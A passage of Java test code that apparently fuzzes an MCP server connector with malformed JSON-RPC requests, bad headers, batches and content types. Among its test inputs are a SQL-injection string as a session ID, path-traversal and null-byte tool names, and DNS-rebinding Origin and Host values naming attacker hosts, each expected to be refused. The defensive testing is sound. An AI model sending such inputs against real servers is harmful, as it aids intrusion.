                Map<String, Object> params = new LinkedHashMap<>();
                params.put("name", tool);
                params.put("arguments", args);
                String b = JSON.writeValueAsString(
                        Map.of("jsonrpc", "2.0", "id", 5000 + out.size(), "method", "tools/call", "params", params));
                byte[] body = b.getBytes(StandardCharsets.UTF_8);
                out.add(new Case(
                        tool + " " + abbreviate(args.toString()),
                        body,
                        h,
                        body.length > MAX_REQUEST_BYTES ? httpError(413, -32600) : toolAnswer()));
            }
        }
        for (String unknown :
                List.of("drop_table", "list_catalogs ", "LIST_CATALOGS", "../list_catalogs", "proxy_to_sql\u0000")) {
            String b = JSON.writeValueAsString(Map.of(
                    "jsonrpc",
                    "2.0",
                    "id",
                    9000 + out.size(),
                    "method",
                    "tools/call",
                    "params",
                    Map.of("name", unknown, "arguments", Map.of())));
            out.add(new Case(
                    "unknown tool " + abbreviate(unknown), b.getBytes(StandardCharsets.UTF_8), h, toolAnswer()));
        }
        return out;
    }

    private List<Case> headerAbuse(String session) {
        List<Case> out = new ArrayList<>();
        byte[] list = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"}".getBytes();
        for (String v : List.of("1999-01-01", "2025-13-45", "latest", "2025-11-25, 2025-06-18", "x".repeat(200), "")) {
            out.add(new Case(
                    "protocol version " + abbreviate(v),
                    list,
                    Map.of("Mcp-Session-Id", session, "MCP-Protocol-Version", v),
                    httpError(400, -32022)));
        }
        for (String s :
                List.of("no-such-session", "00000000-0000-0000-0000-000000000000", "x".repeat(500), "' OR 1=1 --")) {
            out.add(new Case(
                    "unknown session " + abbreviate(s),
                    list,
                    Map.of("Mcp-Session-Id", s, "MCP-Protocol-Version", "2025-11-25"),
                    clientError()));
        }
        out.add(new Case(
                "no session on tools/list", list, Map.of("MCP-Protocol-Version", "2025-11-25"), clientError()));
        out.add(new Case(
                "wrong content type",
                list,
                Map.of("Mcp-Session-Id", session, "Content-Type", "text/plain"),
                httpError(415, -32600)));
        out.add(new Case(
                "accept only html",
                list,
                Map.of("Mcp-Session-Id", session, "Accept", "text/html"),
                httpError(406, -32600)));
        out.add(new Case(
                "accept json only",
                list,
                Map.of("Mcp-Session-Id", session, "Accept", "application/json"),
                httpError(406, -32600)));
        return out;
    }

    /** JSON-RPC batches: MCP (2025-06-18 on) sends one message per POST; every array is an invalid request. */
    private List<Case> batches(Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        String list = new String(LIST, StandardCharsets.UTF_8);
        String init = new String(INITIALIZE, StandardCharsets.UTF_8);
        for (String b : List.of(
                "[" + list + "," + list + "]",
                "[" + init + "," + list + "]",
                "[{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}]",
                "[[]]",
                "[null]",
                "[1,2,3]",
                "[" + (list + ",").repeat(200) + list + "]",
                "[{\"jsonrpc\":\"2.0\",\"id\":7,\"result\":{}}]")) {
            out.add(new Case("batch " + abbreviate(b), b.getBytes(StandardCharsets.UTF_8), h, httpError(400, -32600)));
        }
        return out;
    }

    /** Every Content-Type but application/json (UTF-8) is refused before the body is read, as a JSON-RPC error. */
    private List<Case> contentTypes(Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        for (String type : List.of(
                "text/plain",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/jsonx",
                "application/json-seq",
                "text/json",
                "application/json; charset=iso-8859-1",
                "application/json; charset=utf-32",
                "*/*",
                "application/*",
                ";;;",
                "application/json/../xml",
                "text/event-stream",
                "application/xml")) {
            out.add(new Case(
                    "content type " + abbreviate(type),
                    LIST,
                    withHeader(h, "Content-Type", type),
                    httpError(415, -32600)));
        }
        for (String accept : List.of("text/event-stream", "application/xml", "image/*", "text/html;q=1")) {
            out.add(new Case("accept " + accept, LIST, withHeader(h, "Accept", accept), httpError(406, -32600)));
        }
        return out;
    }

    /** A present Origin that is not this server's (DNS rebinding, a page of another site) gets 403. */
    private List<Case> origins(Map<String, String> h, byte[] body) {
        List<Case> out = new ArrayList<>();
        for (String origin : List.of(
                "http://evil.example.com",
                "null",
                "http://localhost.evil.example",
                "http://127.0.0.1.nip.io:8080",
                "https://attacker.example:443",
                "file://",
                "chrome-extension://abcdef",
                "http://evil.example.com, http://localhost:1",
                "%%%",
                "http://[::2]:80",
                "x".repeat(300))) {
            out.add(new Case(
                    "origin " + abbreviate(origin), body, withHeader(h, "Origin", origin), httpError(403, -32003)));
        }
        return out;
    }

    /**
     * Hosts that do not name this server (DNS rebinding), a second Host, and a request without Content-Type, sent
     * as raw bytes: every one is refused with a JSON-RPC error.
     */
    private List<Case> hosts(String bearer, Map<String, String> h, byte[] body) {
        List<Case> out = new ArrayList<>();
        StringBuilder extra = new StringBuilder();
        h.forEach((k, v) -> extra.append(k).append(": ").append(v).append("\r\n"));
        String common =
                "Authorization: Bearer " + bearer + "\r\nAccept: application/json, text/event-stream\r\n" + extra;
        String json = "Content-Type: application/json\r\n";
        for (String host : List.of(
                "attacker.example",
                "attacker.example:" + connector.port,
                "127.0.0.1.attacker.example",
                "localhost.attacker.example:" + connector.port,
                "127.0.0.2",
                "[::2]",
                "evil@127.0.0.1",
                "",
                "x".repeat(300))) {
            out.add(new Case(
                    "host " + abbreviate(host),
                    body,
                    Map.of(),
                    httpError(403, -32003),
                    "POST /mcp HTTP/1.1\r\nHost: " + host + "\r\n" + json + common));
        }
        out.add(new Case(
                "second host",
                body,
                Map.of(),
                httpError(403, -32003),
                "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:" + connector.port + "\r\nHost: attacker.example\r\n" + json
                        + common));
        out.add(new Case("no host", body, Map.of(), httpError(403, -32003), "POST /mcp HTTP/1.1\r\n" + json + common));
        out.add(new Case(
                "no content type",
                body,
                Map.of(),
                httpError(415, -32600),
                "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:" + connector.port + "\r\n" + common));
        return out;
    }

    /**
     * A generated set of malformed envelopes: every top-level member of a valid request (and of its params and
     * {@code _meta}) removed, replaced by each JSON type, or sent twice. Whatever the connector makes of each, the
     * answer is a JSON-RPC message (the checks every case gets), and never a 5xx.
     */
    private List<Case> mutatedEnvelopes(byte[] base, Map<String, String> h) {
        List<Case> out = new ArrayList<>();
        ObjectNode root = (ObjectNode) JSON.readTree(base);
        String method = root.path("method").asString("");
        List<String> values = List.of(
                "null",
                "true",
                "0",
                "-1",
                "1e400",
                "\"\"",
                "\"x\"",
                "[]",
                "{}",
                "[1]",
                "{\"a\":{}}",
                "\"2.0 \"",
                "\"" + "z".repeat(2000) + "\"");
        List<List<String>> paths = new ArrayList<>();
        root.propertyNames().forEach(k -> paths.add(List.of(k)));
        if (root.path("params").isObject()) {
            root.get("params").propertyNames().forEach(k -> paths.add(List.of("params", k)));
            if (root.path("params").path("_meta").isObject()) {
                root.get("params").get("_meta").propertyNames().forEach(k -> paths.add(List.of("params", "_meta", k)));
            }
        }
        for (List<String> path : paths) {
            String where = method + " " + String.join(".", path);
            ObjectNode removed = root.deepCopy();
            parentOf(removed, path).remove(path.get(path.size() - 1));
            out.add(new Case("envelope " + where + " removed", JSON.writeValueAsBytes(removed), h, anyAnswer()));
            for (String value : values) {
                ObjectNode replaced = root.deepCopy();
                parentOf(replaced, path).set(path.get(path.size() - 1), JSON.readTree(value));
                out.add(new Case(
                        "envelope " + where + " = " + abbreviate(value),
                        JSON.writeValueAsBytes(replaced),
                        h,
                        anyAnswer()));
            }
            // the member twice, as raw text (a JSON tree cannot hold it): a parse error, whatever the two values are
            String text = new String(JSON.writeValueAsBytes(root), StandardCharsets.UTF_8);
            String key = JSON.writeValueAsString(path.get(path.size() - 1)) + ":";
            int at = text.indexOf(key);
            if (at > 0) {
                String twice = text.substring(0, at) + key + "\"twice\"," + text.substring(at);
                out.add(new Case(
                        "envelope " + where + " twice",
                        twice.getBytes(StandardCharsets.UTF_8),
                        h,
                        httpError(400, -32700)));
            }
        }
        return out;
    }

    private static ObjectNode parentOf(ObjectNode root, List<String> path) {
        ObjectNode node = root;
        for (String k : path.subList(0, path.size() - 1)) {
            node = (ObjectNode) node.get(k);
        }
        return node;
    }

    /** Any answer a client can read: a JSON-RPC result or error, or 202 (the checks every case gets do the rest). */
    static Predicate<HttpResponse<String>> anyAnswer() {
        return r -> r.statusCode() == 200 || r.statusCode() == 202 || r.statusCode() >= 400 && r.statusCode() < 500;
    }

    private static String abbreviate(String s) {
        String clean = s.replaceAll("[^\\x20-\\x7e]", "?");
        return clean.length() > 80 ? clean.substring(0, 80) + "..." : clean;
    }
}
